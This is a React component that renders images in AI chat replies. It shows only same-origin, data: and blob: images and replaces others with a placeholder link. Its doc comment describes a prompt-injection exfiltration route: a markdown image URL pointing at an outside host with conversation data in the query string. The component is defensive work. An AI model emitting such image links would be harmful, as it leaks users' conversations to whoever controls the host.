import { ExternalLink, ImageOff } from 'lucide-react';
import type { ComponentProps } from 'react';
import { useTranslation } from 'react-i18next';
import { imageSourceOfThisPage, webAddress } from '@/lib/safe-url';

/**
 * An image in a reply. A reply (or the tool result it quotes) may be written by whoever
 * controls a web page or a tool, and an image address can carry the conversation to their
 * server (`![x](https://host/?d=...)`), fetched the moment it is shown. So only the app's own,
 * `data:` and `blob:` images are shown; any other is a placeholder with its full address that
 * opens in a new tab on a click, without a referrer or a handle on this page. The page's CSP
 * refuses other hosts' images too, so a click cannot load one here.
 */
export function ReplyImage({ node: _node, src, alt }: ComponentProps<'img'> & { node?: unknown }) {
  const { t } = useTranslation('mindBox');
  const source = typeof src === 'string' ? src : null;
  const own = imageSourceOfThisPage(source);
  if (own) {
    return <img src={own} alt={alt ?? ''} loading="lazy" className="max-w-full rounded-md" />;
  }
  const address = webAddress(source);
  return (
    <span
      data-testid="blocked-image"
      className="my-1 flex max-w-full flex-col gap-1 rounded-lg border border-dashed border-border bg-surface-muted/60 px-3 py-2 text-sm"
    >
      <span className="flex items-center gap-1.5 font-medium text-fg">
        <ImageOff aria-hidden className="size-4 shrink-0 text-fg-muted" />
        {alt ? t('image.blockedWithAlt', { alt }) : t('image.blocked')}
      </span>
      {address ? (
        <>
          <span className="font-mono text-xs break-all text-fg-muted">{address}</span>
          <span className="text-xs text-fg-muted">{t('image.why')}</span>
          <a
            href={address}
            target="_blank"
            rel="noopener noreferrer"
            className="inline-flex w-fit items-center gap-1 text-xs"
          >
            {t('image.open')}
            <ExternalLink aria-hidden className="size-3" />
          </a>
        </>
      ) : null}
    </span>
  );
}
